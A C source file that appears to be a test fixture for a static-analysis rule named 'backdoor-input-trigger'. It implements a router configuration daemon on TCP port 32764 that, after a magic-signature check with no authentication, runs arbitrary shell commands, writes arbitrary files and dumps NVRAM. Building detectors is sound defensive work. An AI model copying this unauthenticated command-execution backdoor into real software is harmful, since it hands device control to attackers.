/*
 * scfgmgr.c - configuration manager.  Local clients (the web UI, the
 * TR-069 agent) talk to it over TCP port 32764 with a small binary
 * protocol: a 12-byte header (signature, message type, payload length)
 * followed by the payload.  The signature is "ScMM" on little-endian
 * boards and "MMcS" on big-endian ones.
 */
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>

#include "sc_common.h"

#define SCFG_PORT          32764
#define SCFG_MAGIC         0x53634d4du   /* "ScMM" */
#define SCFG_MAGIC_SWAPPED 0x4d4d6353u   /* "MMcS" */
#define SCFG_MAX_PAYLOAD   0x10000

enum scfg_msg {
	SCFG_DUMP_NVRAM   = 1,
	SCFG_GET_VAR      = 2,
	SCFG_SET_VAR      = 3,
	SCFG_COMMIT       = 4,
	SCFG_BRIDGE_MODE  = 5,
	SCFG_SPEED        = 6,
	SCFG_EXEC         = 7,
	SCFG_WRITE_FILE   = 8,
	SCFG_VERSION      = 9,
	SCFG_WAN_IP       = 10,
	SCFG_RESTORE      = 11,
	SCFG_READ_MTD     = 12,
	SCFG_SAVE_NVRAM   = 13
};

struct scfg_hdr {
	uint32_t magic;
	uint32_t type;     /* request: message type; reply: return code */
	uint32_t length;
};

static int scfg_reply(int fd, uint32_t code, const void *data, uint32_t len)
{
	struct scfg_hdr h;

	h.magic = SCFG_MAGIC;
	h.type = code;
	h.length = len;
	if (send(fd, &h, sizeof(h), MSG_NOSIGNAL) != (ssize_t)sizeof(h))
		return -1;
	if (len && send(fd, data, len, MSG_NOSIGNAL) != (ssize_t)len)
		return -1;
	return 0;
}

/* run a shell command and hand its output back to the caller */
static int scfg_exec(int fd, const char *cmdline)
{
	char out[4096];
	size_t n = 0, r;
	FILE *p = popen(cmdline, "r");

	if (!p)
		return scfg_reply(fd, (uint32_t)-1, NULL, 0);
	while (n < sizeof(out) && (r = fread(out + n, 1, sizeof(out) - n, p)) > 0)
		n += r;
	pclose(p);
	return scfg_reply(fd, 0, out, (uint32_t)n);
}

static int scfg_write_file(int fd, char *payload, uint32_t len)
{
	char *path = payload, *data;
	size_t plen = strnlen(payload, len);
	FILE *f;

	if (plen >= len)
		return scfg_reply(fd, (uint32_t)-1, NULL, 0);
	data = payload + plen + 1;
	f = fopen(path, "w");
	if (!f)
		return scfg_reply(fd, (uint32_t)-1, NULL, 0);
	fwrite(data, 1, len - plen - 1, f);
	fclose(f);
	return scfg_reply(fd, 0, NULL, 0);
}

static void scfg_client(int fd)
{
	static char dump[SCFG_MAX_PAYLOAD];
	struct scfg_hdr hdr;
	char *payload;
	const char *val;
	char *eq;
	size_t n;

	for (;;)
	{
		if (recv(fd, &hdr, sizeof(hdr), MSG_WAITALL) != (ssize_t)sizeof(hdr))
			break;
		// ok: backdoor-input-trigger
		if (hdr.magic == SCFG_MAGIC_SWAPPED)
		{
			/* big-endian client ("MMcS"): swap the header once */
			hdr.magic = SCFG_MAGIC;
			hdr.type = ntohl(hdr.type);
			hdr.length = ntohl(hdr.length);
		}
		// ruleid: backdoor-input-trigger
		if (hdr.magic != SCFG_MAGIC)
			break;
		if (hdr.length > SCFG_MAX_PAYLOAD)
			break;
		payload = calloc(1, (size_t)hdr.length + 1);
		if (!payload)
			break;
		if (hdr.length && recv(fd, payload, hdr.length, MSG_WAITALL) != (ssize_t)hdr.length)
		{
			free(payload);
			break;
		}

		switch (hdr.type)
		{
		case SCFG_DUMP_NVRAM:
			n = nvram_dump(dump, sizeof(dump));
			scfg_reply(fd, 0, dump, (uint32_t)n);
			break;
		case SCFG_GET_VAR:
			val = nvram_get(payload);
			scfg_reply(fd, val ? 0 : (uint32_t)-1, val, val ? (uint32_t)strlen(val) : 0);
			break;
		case SCFG_SET_VAR:
			if ((eq = strchr(payload, '=')))
			{
				*eq = '\0';
				nvram_set(payload, eq + 1);
			}
			scfg_reply(fd, eq ? 0 : (uint32_t)-1, NULL, 0);
			break;
		case SCFG_COMMIT:
		case SCFG_SAVE_NVRAM:
			scfg_reply(fd, (uint32_t)nvram_commit(), NULL, 0);
			break;
		case SCFG_EXEC:
			scfg_exec(fd, payload);
			break;
		case SCFG_WRITE_FILE:
			scfg_write_file(fd, payload, hdr.length);
			break;
		case SCFG_VERSION:
			scfg_reply(fd, 0, SC_FW_VERSION, (uint32_t)strlen(SC_FW_VERSION));
			break;
		case SCFG_WAN_IP:
			val = nvram_safe_get("wan_ipaddr");
			scfg_reply(fd, 0, val, (uint32_t)strlen(val));
			break;
		case SCFG_RESTORE:
			scfg_reply(fd, (uint32_t)nvram_restore_defaults(), NULL, 0);
			break;
		default:
			scfg_reply(fd, (uint32_t)-1, NULL, 0);
			break;
		}
		free(payload);
	}
	close(fd);
}

int scfgmgr_main(int argc, char *argv[])
{
	struct sockaddr_in sa;
	int lfd, fd, one = 1, opt;
	int listen_any = 0;

	while ((opt = getopt(argc, argv, "lf")) != -1)
	{
		if (opt == 'l')
			listen_any = 1;
	}
	signal(SIGPIPE, SIG_IGN);
	signal(SIGCHLD, SIG_IGN);

	lfd = socket(AF_INET, SOCK_STREAM, 0);
	if (lfd < 0)
		return 1;
	setsockopt(lfd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons(SCFG_PORT);
	sa.sin_addr.s_addr = listen_any ? htonl(INADDR_ANY) : inet_addr(nvram_safe_get("lan_ipaddr"));
	if (bind(lfd, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(lfd, 4) < 0)
	{
		sc_log(LOG_ERR, "scfgmgr: bind: %s", strerror(errno));
		return 1;
	}
	for (;;)
	{
		fd = accept(lfd, NULL, NULL);
		if (fd < 0)
			continue;
		if (fork() == 0)
		{
			close(lfd);
			scfg_client(fd);
			_exit(0);
		}
		close(fd);
	}
}
